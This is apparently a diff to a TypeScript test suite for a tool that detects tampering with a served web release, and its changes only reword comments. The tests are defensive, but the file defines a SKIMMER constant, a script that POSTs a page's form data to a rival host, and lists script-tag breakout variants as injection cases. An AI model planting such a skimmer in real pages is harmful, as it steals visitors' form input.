@@ -8,10 +8,7 @@ import { builtRelease, ORIGIN, type Reply, serve, type Tamper, withoutChunks } f
 import { verify } from './verify';
 
 const release = builtRelease();
-/**
- * Without the chunks that the page doesn't name, which are asked for and compared as the others are: a check of those too
- * takes three times as long.
- */
+/** Without the chunks that the page doesn't name. They are checked like the others, and would triple the time. */
 const inventory = withoutChunks(release, [/\/assets\/BankTransferScreen-/]);
 let close = async (): Promise<unknown> => undefined;
 afterEach(() => close());
@@ -83,14 +80,17 @@ const manyHeaders = (reply: Reply, count: number) => ({
   },
 });
 
-/** A change without effect would not be found, and prove nothing. */
+/** Replaces text in a file. Throws if nothing changed, because such a test would prove nothing. */
 function changed(before: string, from: string | RegExp, to: string): string {
   const after = before.replace(from, () => to);
   if (after === before) throw new Error(`${from} is not there to be changed.`);
   return after;
 }
 
-/** Ways to end the configuration block that a browser knows beside `</script>`. Behind the last it goes on to the app's tag. */
+/**
+ * Ways to end the configuration block in a browser other than `</script>`. After the last, the block continues to the app's
+ * tag.
+ */
 const BLOCK_ENDS = ['</SCRIPT>', '</script >', '</script/>', '</sCript\t>', '<!--<script>'];
 const inBlock = (end: string) =>
   text(
@@ -108,7 +108,7 @@ const BLOCK_TABLE = BLOCK_ENDS.flatMap((end): [what: string, tamper: Tamper, nam
 
 const SKIMMER = `<script>fetch("${RIVAL}",{method:"POST",body:document.forms})</script>`;
 
-/** What is done to the release -> by which names it is found. */
+/** The change, how it is made, and the findings that it causes. */
 const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
   // Bytes.
   ['one byte more at the end of the app', ofFile(APP, append('\n')), ['bytes-changed']],
@@ -371,7 +371,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     csp('base-uri', 'frame-ancestors https://a.example; base-uri'),
     ['csp-directive-added'],
   ],
-  // What looks the same, and browsers drop.
+  // Directives that look the same, but that browsers ignore.
   [
     'a directive with another blank in it, which is none',
     csp("base-uri 'none'", "base-uri\xa0'none'"),
@@ -538,7 +538,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     ofFile('/assets/none.js', header('cache-control', 'max-age=3600')),
     ['header-changed'],
   ],
-  // Where it is served, and to whom.
+  // Redirects, and answers that differ by visitor.
   [
     'a page elsewhere',
     ofPage((reply) => ({ ...reply, status: 302, headers: { location: `${RIVAL}/` } })),
@@ -695,7 +695,7 @@ describe('a release that was tampered with', () => {
   });
 });
 
-/** Node has it from 22.15 on; an older one can't read it either. */
+/** Node supports zstd since 22.15. Without it, the check can't read zstd either. */
 const { zstdCompressSync } = zlib as { zstdCompressSync?: typeof zlib.brotliCompressSync };
 
 const inZstd = onlyFor(
@@ -706,7 +706,7 @@ const inZstd = onlyFor(
   }),
 );
 
-/** What servers and those in front of them do that does not change the release. */
+/** Changes by servers and proxies that don't affect the release. */
 const HARMLESS: [what: string, tamper: Tamper][] = [
   ['nothing', (reply) => reply],
   ['a name of the server', header('server', 'nginx')],
@@ -767,7 +767,7 @@ describe('a check', () => {
     expect([...asked].filter((url) => url.includes(ANY_REFERENCE))).toEqual([]);
     const references = [...asked].filter((url) => /^\/payments\/CHK_[0-9a-f]{18}$/.test(url));
     expect(references).toHaveLength(2);
-    // What is found reads the same, and as the inventory names it.
+    // The findings are the same for every reference, and name the inventory's path.
     expect(one.findings).toEqual(other.findings);
     expect(one.findings[0]).toMatchObject({
       where: `/${ANY_REFERENCE}`,
